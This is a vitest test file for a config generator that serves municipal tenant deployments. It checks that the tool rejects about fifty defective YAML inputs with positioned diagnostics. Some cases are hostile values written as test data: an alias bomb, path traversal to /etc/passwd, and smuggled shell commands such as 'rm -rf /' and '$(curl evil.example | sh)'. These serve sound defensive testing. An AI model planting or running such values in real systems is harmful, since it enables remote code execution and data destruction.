import { rmSync, renameSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { cli, copyFleet, edit, read, PROJECT_ROOT, snapshotTree, write } from './helpers/fleet.js';

/**
 * The bad-input corpus: each case is the small fleet with one defect. For every case generate must
 * exit 1 with a positioned diagnostic and a hint, print no stack trace, and leave dist/ byte for byte.
 */
const SMALL = path.join(PROJECT_ROOT, 'test/fixtures/small-fleet/input');
const P = 'tenants/sh/sh-preetz.yaml';
const ENV = 'environments/test.yaml';
const replaceIn = (file: string, from: string | RegExp, to: string) => (root: string) => edit(root, file, (t) => t.replace(from, to));
const append = (file: string, text: string) => (root: string) => edit(root, file, (t) => t + text);
const putFile = (file: string, text: string | Buffer) => (root: string) => write(root, file, text);

/** `expected`: the start of one of the diagnostics printed, position included. */
const CASES: { name: string; defect: (root: string) => void; expected: string }[] = [
  { name: 'YAML syntax error: unclosed flow sequence', defect: replaceIn(P, 'environments: [test, prod]', 'environments: [test, prod'), expected: 'tenants/sh/sh-preetz.yaml:7:1: error E_YAML_SYNTAX' },
  { name: 'tab used for indentation', defect: replaceIn(P, 'contact: {name: IT-Service Preetz, email: it@preetz.example}', 'contact:\n\tname: IT'), expected: 'tenants/sh/sh-preetz.yaml:9:1: error E_YAML_TAB' },
  { name: 'duplicate key', defect: append(P, 'wave: main\n'), expected: 'tenants/sh/sh-preetz.yaml:10:1: error E_YAML_DUPLICATE_KEY' },
  { name: 'wrong type: environments as a string', defect: replaceIn(P, 'environments: [test, prod]', 'environments: test'), expected: 'tenants/sh/sh-preetz.yaml:6:15: error E_SCHEMA' },
  { name: 'wrong type: apps as a number', defect: replaceIn(P, 'apps: [alfa, user-manager, vorgang-manager]', 'apps: 5'), expected: 'tenants/sh/sh-preetz.yaml:9:7: error E_SCHEMA' },
  { name: 'wrong type: pods as a string', defect: replaceIn(ENV, 'pods: 40', 'pods: forty'), expected: 'environments/test.yaml:116:11: error E_SCHEMA' },
  { name: 'missing required field ags', defect: replaceIn(P, 'ags: "01057062"\n', ''), expected: 'tenants/sh/sh-preetz.yaml:2:1: error E_SCHEMA: missing required field "ags"' },
  { name: 'missing required field name', defect: replaceIn(P, 'name: Stadt Preetz\n', ''), expected: 'tenants/sh/sh-preetz.yaml:2:1: error E_SCHEMA: missing required field "name"' },
  { name: 'unknown field, a typo', defect: replaceIn(P, 'environments:', 'enviroments:'), expected: 'tenants/sh/sh-preetz.yaml:6:1: error E_SCHEMA: unknown field "enviroments" (hint: did you mean "environments"?)' },
  { name: 'unknown field in the environment', defect: replaceIn(ENV, 'domain:', 'domian:'), expected: 'environments/test.yaml:4:1: error E_SCHEMA: unknown field "domian" (hint: did you mean "domain"?)' },
  { name: 'file over 1 MiB', defect: append(P, `# ${'x'.repeat(1024 * 1024)}\n`), expected: 'tenants/sh/sh-preetz.yaml:1:1: error E_FILE_TOO_LARGE' },
  { name: 'alias bomb (billion laughs)', defect: append(P, 'bomb:\n  a: &a [x, x, x, x, x, x, x, x, x]\n  b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n  c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n  d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n  e: [*d, *d, *d, *d, *d, *d, *d, *d, *d]\n'), expected: 'tenants/sh/sh-preetz.yaml:1:1: error E_YAML_ALIAS' },
  { name: 'non-UTF-8 bytes', defect: (r) => write(r, P, Buffer.from(read(r, P).replace('Stadt Preetz', 'Stadt Pr\u00e4tz'), 'latin1')), expected: 'tenants/sh/sh-preetz.yaml:3:15: error E_NOT_UTF8' },
  { name: 'byte-order mark', defect: (r) => write(r, P, `\ufeff${read(r, P)}`), expected: 'tenants/sh/sh-preetz.yaml:1:1: error E_BOM' },
  { name: 'path traversal in the id', defect: replaceIn(P, 'id: sh-preetz', 'id: ../../etc/passwd'), expected: 'tenants/sh/sh-preetz.yaml:2:5: error E_SCHEMA' },
  { name: 'shell metacharacters in the id', defect: replaceIn(P, 'id: sh-preetz', 'id: "sh-preetz;rm -rf /"'), expected: 'tenants/sh/sh-preetz.yaml:2:5: error E_SCHEMA' },
  { name: 'shell metacharacters in the name', defect: replaceIn(P, 'name: Stadt Preetz', 'name: "Stadt $(curl evil.example | sh)"'), expected: 'tenants/sh/sh-preetz.yaml:3:7: error E_SCHEMA' },
  { name: 'control character in the name', defect: replaceIn(P, 'name: Stadt Preetz', 'name: "Stadt\\u0007Preetz"'), expected: 'tenants/sh/sh-preetz.yaml:3:7: error E_SCHEMA' },
  { name: 'path traversal in the hostname', defect: append(P, 'hostname: ../../preetz.example\n'), expected: 'tenants/sh/sh-preetz.yaml:10:11: error E_SCHEMA' },
  { name: 'shell metacharacters in the hostname', defect: append(P, 'hostname: "preetz.example`id`"\n'), expected: 'tenants/sh/sh-preetz.yaml:10:11: error E_SCHEMA' },
  { name: 'Unicode look-alike in the id (Cyrillic e)', defect: replaceIn(P, 'id: sh-preetz', 'id: sh-pr\u0435etz'), expected: 'tenants/sh/sh-preetz.yaml:2:5: error E_SCHEMA' },
  { name: 'Unicode look-alike in the hostname (Cyrillic i)', defect: append(P, 'hostname: pre\u0456tz.ozg-cloud.example\n'), expected: 'tenants/sh/sh-preetz.yaml:10:11: error E_SCHEMA' },
  { name: 'Unicode look-alikes mixed into the name', defect: replaceIn(P, 'name: Stadt Preetz', 'name: St\u0430dt Preetz'), expected: 'tenants/sh/sh-preetz.yaml:3:7: error E_MIXED_SCRIPT' },
  { name: 'names that collide after transliteration', defect: replaceIn(P, 'name: Stadt Preetz', 'name: Stadt-Husum'), expected: 'tenants/sh/sh-preetz.yaml:3:7: error E_NAME_COLLISION' },
  { name: 'id over the length limit', defect: (r) => { const id = `sh-${'p'.repeat(61)}`; write(r, `tenants/sh/${id}.yaml`, read(r, P).replace('id: sh-preetz', `id: ${id}`).replace('01057062', '01057063').replace('Stadt Preetz', 'Preetz Land')); }, expected: 'tenants/sh/sh-ppppppppppppppppppppppppppppppppppppppppppppppppppppppppppppp.yaml:2:5: error E_SCHEMA' },
  { name: 'dangling reference: wave', defect: replaceIn(P, 'wave: canary', 'wave: kanarie'), expected: 'tenants/sh/sh-preetz.yaml:7:7: error E_UNKNOWN_WAVE' },
  { name: 'dangling reference: app', defect: replaceIn(P, 'apps: [alfa,', 'apps: [alpha,'), expected: 'tenants/sh/sh-preetz.yaml:9:8: error E_UNKNOWN_APP' },
  { name: 'dangling reference: cluster', defect: append(P, 'cluster: {prod: prod-sh-9}\n'), expected: 'tenants/sh/sh-preetz.yaml:10:17: error E_UNKNOWN_CLUSTER' },
  { name: 'dangling reference: environment', defect: replaceIn(P, 'environments: [test, prod]', 'environments: [test, staging]'), expected: 'tenants/sh/sh-preetz.yaml:6:22: error E_UNKNOWN_ENV' },
  { name: 'dangling reference: exception for an unknown Kommune', defect: append(ENV, 'exceptions:\n  - app: alfa\n    version: 1.11.0\n    tenant: sh-nowhere\n    reason: hotfix rollback\n    until: "2027-01-31"\n'), expected: 'environments/test.yaml:130:13: error E_UNKNOWN_TENANT' },
  { name: 'dangling reference: default size', defect: replaceIn(ENV, '  size: s\n', '  size: xs\n'), expected: 'environments/test.yaml:109:9: error E_UNKNOWN_SIZE' },
  { name: 'empty tenants folder', defect: (r) => { rmSync(path.join(r, 'tenants'), { recursive: true }); write(r, 'tenants/.keep', ''); }, expected: 'tenants:1:1: error E_NO_TENANTS' },
  { name: 'tenant file in the wrong Land folder', defect: (r) => { write(r, 'tenants/ni/.keep', ''); renameSync(path.join(r, P), path.join(r, 'tenants/ni/sh-preetz.yaml')); }, expected: 'tenants/ni/sh-preetz.yaml:2:5: error E_LAND_FOLDER' },
  { name: 'environment without clusters', defect: replaceIn(ENV, /clusters:\n( {2}.*\n)+?rollout:/, 'clusters: []\nrollout:'), expected: 'environments/test.yaml:15:11: error E_SCHEMA: clusters needs at least 1 entry' },
  { name: 'AGS of another Land', defect: replaceIn(P, '01057062', '03057062'), expected: 'tenants/sh/sh-preetz.yaml:4:6: error E_AGS_LAND' },
  { name: 'AGS with seven digits', defect: replaceIn(P, '01057062', '0105706'), expected: 'tenants/sh/sh-preetz.yaml:4:6: error E_SCHEMA' },
  { name: 'duplicate id', defect: (r) => write(r, 'tenants/sh/sh-preetz-2.yaml', read(r, P).replace('01057062', '01057063').replace('Stadt Preetz', 'Preetz II')), expected: 'tenants/sh/sh-preetz.yaml:2:5: error E_DUPLICATE_ID' },
  { name: 'duplicate AGS', defect: replaceIn(P, '01057062', '01054056'), expected: 'tenants/sh/sh-preetz.yaml:4:6: error E_DUPLICATE_AGS' },
  { name: 'literal password in Helm values', defect: append(P, 'values:\n  alfa:\n    keycloak:\n      adminPassword: Winter2026!\n'), expected: 'tenants/sh/sh-preetz.yaml:13:22: error E_LITERAL_SECRET' },
  { name: 'a key named __proto__ in Helm values', defect: append(P, 'values:\n  alfa:\n    ingress:\n      __proto__: [1]\n'), expected: 'tenants/sh/sh-preetz.yaml:13:7: error E_VALUES_KEY' },
  { name: 'high-entropy token in Helm values', defect: append(P, 'values:\n  alfa:\n    webhook: "xoxb-9fK2mQ7rT4vW8yZ1aB3cD5eF7gH9jK2L"\n'), expected: 'tenants/sh/sh-preetz.yaml:12:14: error E_HIGH_ENTROPY' },
  { name: 'expired version exception in production', defect: append('environments/prod.yaml', 'exceptions:\n  - app: alfa\n    version: 1.11.0\n    wave: canary\n    reason: rollback after incident\n    until: "2026-10-01"\n'), expected: 'environments/prod.yaml:140:12: error E_EXCEPTION_EXPIRED' },
  { name: 'empty file', defect: putFile(P, ''), expected: 'tenants/sh/sh-preetz.yaml:1:1: error E_SCHEMA' },
  { name: 'a list instead of a mapping', defect: putFile(P, '- id: sh-preetz\n'), expected: 'tenants/sh/sh-preetz.yaml:1:1: error E_SCHEMA' },
  { name: 'two YAML documents in one file', defect: append(P, '---\nid: sh-other\n'), expected: 'tenants/sh/sh-preetz.yaml:10:1: error E_YAML_SYNTAX' },
  { name: 'unsupported YAML tag', defect: replaceIn(P, 'name: Stadt Preetz', 'name: !include ../../secrets.yaml'), expected: 'tenants/sh/sh-preetz.yaml:3:7: error E_YAML_TAG' },
  { name: 'input with the .yml extension', defect: (r) => renameSync(path.join(r, P), path.join(r, 'tenants/sh/sh-preetz.yml')), expected: 'tenants/sh/sh-preetz.yml:1:1: error E_STRAY_FILE' },
  { name: 'maxUpdate over 100%', defect: replaceIn(ENV, 'maxUpdate: "50%"', 'maxUpdate: "150%"'), expected: 'environments/test.yaml:28:18: error E_SCHEMA' },
  { name: 'invalid e-mail', defect: replaceIn(P, 'email: it@preetz.example', 'email: it-at-preetz'), expected: 'tenants/sh/sh-preetz.yaml:8:43: error E_SCHEMA' },
  { name: 'invalid CIDR', defect: append(P, 'allowedIPs: [198.51.100.0/33]\n'), expected: 'tenants/sh/sh-preetz.yaml:10:14: error E_SCHEMA' },
  { name: 'environment name not its file name', defect: replaceIn(ENV, 'name: test', 'name: staging'), expected: 'environments/test.yaml:3:7: error E_ENV_NAME' },
];

describe('bad-input corpus', () => {
  for (const { name, defect, expected } of CASES) {
    it(name, async () => {
      const root = copyFleet(SMALL);
      expect((await cli('generate', '--root', root)).code).toBe(0);
      const before = snapshotTree(path.join(root, 'dist'));
      const inputs = () => new Map([...snapshotTree(path.join(root, 'tenants')), ...snapshotTree(path.join(root, 'environments'))]);
      const clean = inputs();
      defect(root);
      // The case really breaks something: its defect changed the inputs.
      expect(inputs()).not.toEqual(clean);
      const run = await cli('generate', '--root', root);
      expect(run.code, run.stderr).toBe(1);
      expect(run.stderr).not.toMatch(/^\s+at |internal error/m);
      const diagnostics = run.stderr.split('\n').filter((l) => / (error|warning) [EW]_/.test(l));
      expect(diagnostics.length).toBeGreaterThan(0);
      for (const d of diagnostics) expect(d).toMatch(/^\S+:\d+:\d+: (error|warning) [EW]_[A-Z0-9_]+: .+ \(hint: .+\)$/);
      expect(diagnostics.some((d) => d.startsWith(expected)), `${expected}\nnot in:\n${diagnostics.join('\n')}`).toBe(true);
      expect(snapshotTree(path.join(root, 'dist'))).toEqual(before);
    });
  }
});
